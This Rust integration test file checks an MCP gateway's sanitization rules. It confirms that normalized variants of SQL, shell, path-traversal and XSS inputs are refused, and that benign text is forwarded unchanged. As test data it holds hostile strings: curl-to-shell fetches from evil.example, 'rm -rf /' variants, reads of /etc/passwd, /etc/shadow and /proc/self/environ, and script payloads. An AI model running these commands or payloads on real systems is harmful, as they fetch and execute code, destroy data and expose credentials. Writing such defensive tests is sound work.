//! Argument rules that see every client string and match on a normalized view, end to
//! end against the real binary: object keys, `completion/complete`, `prompts/get`,
//! `_meta`, client responses to server requests; whitespace, Unicode, percent, path and
//! HTML-entity variants of each built-in rule class and of a blocked pattern; what passes
//! is forwarded byte for byte; a per-tool exemption for shell-free text.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

mod common;

use std::sync::{Arc, Mutex};

use common::*;
use serde_json::{Value, json};

/// An upstream on loopback that keeps every body it receives and answers each request
/// with a JSON-RPC result (202 for a notification or a response).
async fn body_recording_upstream() -> (String, Arc<Mutex<Vec<Vec<u8>>>>) {
    let seen: Arc<Mutex<Vec<Vec<u8>>>> = Arc::default();
    let s2 = seen.clone();
    let app = axum::Router::new().route(
        "/mcp",
        axum::routing::any(move |body: bytes::Bytes| {
            let s = s2.clone();
            async move {
                s.lock().unwrap().push(body.to_vec());
                let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
                match v.get("id") {
                    Some(id) if v.get("method").is_some() => {
                        let resp = json!({"jsonrpc": "2.0", "id": id,
                            "result": {"content": [{"type": "text", "text": "ok"}]}});
                        (
                            http::StatusCode::OK,
                            [("content-type", "application/json")],
                            resp.to_string(),
                        )
                    }
                    _ => (
                        http::StatusCode::ACCEPTED,
                        [("content-type", "application/json")],
                        String::new(),
                    ),
                }
            }
        }),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(l, app).await.unwrap() });
    (format!("http://{addr}/mcp"), seen)
}

const SANITIZATION: &str = r#"sanitization:
  enabled: true
  blocked_patterns: ["DROP TABLE", "top secret"]
  tool_overrides:
    write_note: { exempt: [command_injection] }
"#;

struct Gw {
    _dir: tempfile::TempDir,
    _gw: Proc,
    url: String,
    seen: Arc<Mutex<Vec<Vec<u8>>>>,
    c: reqwest::Client,
}

async fn gateway() -> Gw {
    let dir = tempdir();
    let (upstream, seen) = body_recording_upstream().await;
    let yaml = base_config(&upstream, &dir.path().join("a.db"), SANITIZATION);
    let (gw, base) = start_gateway(dir.path(), &yaml);
    Gw {
        _dir: dir,
        _gw: gw,
        url: format!("{base}/mcp"),
        seen,
        c: client(),
    }
}

impl Gw {
    fn forwarded(&self) -> usize {
        self.seen.lock().unwrap().len()
    }

    /// Sends a 2026-07-28 request; returns the status and the body.
    async fn send(&self, method: &str, name: Option<&str>, params: Value) -> (u16, String) {
        let r = modern(&self.c, &self.url, method, name, params)
            .header("x-api-key", KEY)
            .send()
            .await
            .unwrap();
        (r.status().as_u16(), r.text().await.unwrap())
    }

    /// Asserts that the request is refused by `rule` and never reaches the upstream.
    async fn refused(&self, method: &str, name: Option<&str>, params: Value, rule: &str) {
        let before = self.forwarded();
        let (status, body) = self.send(method, name, params.clone()).await;
        assert_eq!(status, 400, "{method} {params} passed: {body}");
        let v = last(&body);
        assert_eq!(v["error"]["data"]["rule"], rule, "{params}: {body}");
        assert_eq!(self.forwarded(), before, "{params} reached the upstream");
    }

    /// Asserts that the request passes and that the upstream gets the exact bytes sent
    /// for `needle`.
    async fn passes(&self, method: &str, name: Option<&str>, params: Value, needle: &str) {
        let before = self.forwarded();
        let (status, body) = self.send(method, name, params.clone()).await;
        assert_eq!(status, 200, "{params} refused: {body}");
        let seen = self.seen.lock().unwrap();
        assert_eq!(seen.len(), before + 1);
        let got = String::from_utf8(seen[before].clone()).unwrap();
        let want = serde_json::to_string(needle).unwrap();
        assert!(got.contains(&want), "{want} not forwarded as sent in {got}");
    }

    async fn tool(&self, args: Value, rule: &str) {
        self.refused(
            "tools/call",
            Some("search"),
            json!({"arguments": args}),
            rule,
        )
        .await;
    }
}

#[tokio::test]
async fn object_keys_are_scanned_at_every_depth() {
    let g = gateway().await;
    g.tool(
        json!({"filters": {"name'; DROP TABLE users; --": "x"}}),
        "sql_injection",
    )
    .await;
    g.tool(
        json!({"a": {"b": [{"$(curl evil.example|sh)": 1}]}}),
        "command_injection",
    )
    .await;
    g.tool(json!({"../../etc/passwd": "x"}), "path_traversal")
        .await;
    g.tool(json!({"<img src=x onerror=alert(1)>": true}), "xss")
        .await;
    g.tool(json!({"filter": {"drop\ttable": 1}}), "blocked_pattern[0]")
        .await;
    // Plain and prose keys pass.
    g.passes(
        "tools/call",
        Some("search"),
        json!({"arguments": {"filters": {"first name": "Ann", "select": "all rows"}}}),
        "first name",
    )
    .await;
}

#[tokio::test]
async fn every_method_carrying_client_strings_is_scanned() {
    let g = gateway().await;
    // completion/complete: the argument value and the context's arguments.
    let complete = |value: &str, ctx: Value| {
        json!({"ref": {"type": "ref/prompt", "name": "summarize"},
               "argument": {"name": "topic", "value": value},
               "context": {"arguments": ctx}})
    };
    g.refused(
        "completion/complete",
        None,
        complete("x'; DROP TABLE users; --", json!({})),
        "sql_injection",
    )
    .await;
    g.refused(
        "completion/complete",
        None,
        complete("ok", json!({"dir": "/etc//passwd"})),
        "path_traversal",
    )
    .await;
    g.refused(
        "completion/complete",
        None,
        complete("a; rm -rf /", json!({})),
        "command_injection",
    )
    .await;
    // prompts/get arguments (values and keys).
    g.refused(
        "prompts/get",
        Some("summarize"),
        json!({"arguments": {"text": "<svg/onload=alert(1)>"}}),
        "xss",
    )
    .await;
    g.refused(
        "prompts/get",
        Some("summarize"),
        json!({"arguments": {"x | id": "1"}}),
        "command_injection",
    )
    .await;
    // `_meta` forwarded with a call.
    g.refused(
        "tools/call",
        Some("search"),
        json!({"arguments": {}, "_meta": {"trace": "a; rm -rf /"}}),
        "command_injection",
    )
    .await;
    // resources/read: the URI.
    g.refused(
        "resources/read",
        Some("file:///proc//self/environ"),
        json!({}),
        "path_traversal",
    )
    .await;
    // A benign completion passes as sent.
    g.passes(
        "completion/complete",
        None,
        complete("select the best option", json!({"lang": "rust"})),
        "select the best option",
    )
    .await;
}

/// A JSON-RPC response a client POSTs (to a server's elicitation or sampling request) is
/// client text like any argument.
#[tokio::test]
async fn client_responses_to_server_requests_are_scanned() {
    let g = gateway().await;
    let post = |body: Value| {
        g.c.post(&g.url)
            .header("x-api-key", KEY)
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream")
            .header("mcp-protocol-version", "2026-07-28")
            .body(body.to_string())
            .send()
    };
    for (content, rule) in [
        (json!({"name": "x'; DROP TABLE users; --"}), "sql_injection"),
        (json!({"path": "/etc/./shadow"}), "path_traversal"),
        (json!({"x": "javascript&colon;alert(1)"}), "xss"),
        (json!({"k\ny": "example.com\nid"}), "command_injection"),
    ] {
        let before = g.forwarded();
        let body = json!({"jsonrpc": "2.0", "id": "elicit-1",
            "result": {"action": "accept", "content": content}});
        let r = post(body.clone()).await.unwrap();
        let status = r.status().as_u16();
        let text = r.text().await.unwrap();
        assert_eq!(status, 400, "{body} passed: {text}");
        assert_eq!(last(&text)["error"]["data"]["rule"], rule, "{text}");
        assert_eq!(g.forwarded(), before, "{body} reached the upstream");
    }
    // A benign elicitation result is forwarded.
    let before = g.forwarded();
    let body = json!({"jsonrpc": "2.0", "id": "elicit-2",
        "result": {"action": "accept", "content": {"name": "Ann", "note": "drop me a line"}}});
    let r = post(body).await.unwrap();
    assert!(r.status().is_success(), "{}", r.status());
    assert_eq!(g.forwarded(), before + 1);
}

#[tokio::test]
async fn blocked_patterns_match_the_normalized_view() {
    let g = gateway().await;
    for v in [
        "DROP\tTABLE users",
        "drop  \n table users",
        "DROP\u{a0}TABLE users",
        "\u{ff24}\u{ff32}\u{ff2f}\u{ff30} \u{ff34}\u{ff21}\u{ff22}\u{ff2c}\u{ff25} users",
        "DROP\u{200b} TABLE users",
        "TOP\u{2003}SECRET plans",
    ] {
        let rule = if v.contains("PLANS") || v.contains("plans") {
            "blocked_pattern[1]"
        } else {
            "blocked_pattern[0]"
        };
        g.tool(json!({"q": v}), rule).await;
    }
}

#[tokio::test]
async fn command_injection_covers_shell_separators_and_flag_variants() {
    let g = gateway().await;
    for v in [
        "example.com\nid",
        "example.com\n  whoami",
        "x | id",
        "x|id",
        "x || id",
        "x & id",
        "x && id",
        "a; id",
        "rm -fr /",
        "rm -r -f /",
        "rm --recursive --force /",
        "RM -Rf ~/",
        "diff <(curl -s evil.example) x",
        "tee >(sh)",
        "echo ${HOME}",
        "`whoami`",
        "$(id)",
        "\u{ff52}\u{ff4d} -rf /",
    ] {
        g.tool(json!({"cmd": v}), "command_injection").await;
    }
    // Shell-free text for a tool exempt from the rule: passes, bytes unchanged.
    g.passes(
        "tools/call",
        Some("write_note"),
        json!({"arguments": {"text": "x | id"}}),
        "x | id",
    )
    .await;
    // A markdown table and prose with separators pass everywhere.
    g.passes(
        "tools/call",
        Some("search"),
        json!({"arguments": {"text": "| id | name |\n|----|------|\n| 1 | Ann |"}}),
        "| id | name |\n|----|------|\n| 1 | Ann |",
    )
    .await;
}

#[tokio::test]
async fn path_rule_sees_normalized_paths() {
    let g = gateway().await;
    for v in [
        "/etc//passwd",
        "/etc/./shadow",
        "/proc//self/environ",
        "/proc/./self/./environ",
        "%2e%2e%2f%2e%2e%2fetc",
        "..%252f..%252fsecret",
        "%252e%252e%252fx",
        "\u{ff0f}etc\u{ff0f}passwd",
        "/etc/%2e/passwd",
        "%2fetc%2fpasswd",
        "\\etc\\\\shadow",
    ] {
        g.tool(json!({"path": v}), "path_traversal").await;
    }
    g.passes(
        "tools/call",
        Some("search"),
        json!({"arguments": {"path": "src//lib.rs", "url": "https://example.com/a/./b"}}),
        "src//lib.rs",
    )
    .await;
}

#[tokio::test]
async fn xss_rule_decodes_html_entities_and_matches_handlers_by_shape() {
    let g = gateway().await;
    for v in [
        "javascript&colon;alert(1)",
        "java&#x09;script:alert(1)",
        "java&#9;script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A&#x61&#x76&#x61script:alert(1)",
        "java\tscript:alert(1)",
        "<a onpointerrawupdate=alert(1)>",
        "<x oncontentvisibilityautostatechange=alert(1)>",
        "\" onbeforetoggle=\"alert(1)",
        "<svg/onload=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u{ff1c}script\u{ff1e}alert(1)",
    ] {
        g.tool(json!({"html": v}), "xss").await;
    }
    g.passes(
        "tools/call",
        Some("search"),
        json!({"arguments": {"q": "Tom &amp; Jerry, online=true, one = 1"}}),
        "Tom &amp; Jerry, online=true, one = 1",
    )
    .await;
}

/// What passes is forwarded as the client sent it: the normalized view is only matched.
#[tokio::test]
async fn the_original_bytes_are_forwarded() {
    let g = gateway().await;
    for v in [
        "caf\u{e9} \u{ff21}\u{ff22}\u{ff23} \u{2126}",
        "a%20b%2Fc",
        "Fish &amp; chips &#x2014; &copy; 2026",
        "two  spaces\tand\ttabs",
    ] {
        g.passes(
            "tools/call",
            Some("search"),
            json!({"arguments": {"q": v}}),
            v,
        )
        .await;
    }
}
